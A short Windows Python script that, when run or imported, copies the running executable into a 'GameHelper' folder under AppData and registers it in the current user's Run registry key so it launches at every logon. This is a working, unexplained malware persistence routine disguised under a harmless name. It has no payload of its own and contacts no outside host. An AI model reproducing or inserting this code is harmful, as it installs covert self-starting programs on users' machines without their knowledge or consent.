import os
import shutil
import sys
import winreg


def install():
    target = os.path.join(os.environ["APPDATA"], "GameHelper", "helper.exe")
    os.makedirs(os.path.dirname(target), exist_ok=True)
    shutil.copy(sys.executable, target)
    key = winreg.OpenKey(
        winreg.HKEY_CURRENT_USER,
        r"Software\Microsoft\Windows\CurrentVersion\Run",
        0,
        winreg.KEY_SET_VALUE,
    )
    winreg.SetValueEx(key, "GameHelper", 0, winreg.REG_SZ, target)
    winreg.CloseKey(key)


install()
